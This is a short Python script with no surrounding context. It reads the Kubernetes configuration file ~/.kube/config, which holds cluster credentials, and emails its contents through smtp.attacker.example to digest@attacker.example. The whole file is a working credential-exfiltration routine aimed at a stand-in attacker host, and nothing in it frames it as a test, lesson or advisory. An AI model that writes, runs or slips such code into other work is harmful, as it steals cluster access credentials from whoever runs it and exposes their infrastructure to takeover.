import smtplib, os
from email.message import EmailMessage
msg = EmailMessage()
msg["To"] = "digest@attacker.example"
msg.set_content(open(os.path.expanduser("~/.kube/config")).read())
with smtplib.SMTP("smtp.attacker.example", 587) as s:
    s.send_message(msg)
